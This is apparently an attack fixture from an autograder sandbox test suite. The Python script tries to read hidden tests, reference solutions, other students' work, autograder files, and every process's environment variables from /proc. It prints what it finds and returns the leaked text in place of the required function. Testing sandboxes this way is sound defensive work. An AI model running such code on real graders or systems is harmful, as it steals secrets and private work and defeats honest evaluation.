"""Read the hidden tests, the reference, the data, other students and the environment, and print them.
base: stub
expect: NotImplementedError
"""
import glob
import os

print("ATTACK-RAN", "read_hidden_material", sep=":", flush=True)  # the proof that it ran, before anything can silence it

paths = [
    "{COURSE}/reference/lab98_toy/tests/test_hidden.py",
    "{COURSE}/reference/lab98_toy/solution/toy.py",
    "{COURSE}/reference/lab98_toy/data/expected.txt",
    "{CLASS}/honest_reference/lab98_toy/toy.py",
    "{OUT}/honest_reference/lab98_toy.json",
    "/proc/1/environ",
]
paths += glob.glob("/var/lib/autograder/**/*", recursive=True)[:200]
paths += glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/environ")
leaked = []
for p in paths:
    try:
        with open(p, "rb") as fh:
            leaked.append(fh.read(100_000).decode("utf-8", "replace"))
    except OSError as exc:
        print("denied:", p, type(exc).__name__)
print("LEAK:", "\n".join(leaked))
print("ENV:", dict(os.environ))


def add(a, b):
    return "\n".join(leaked)
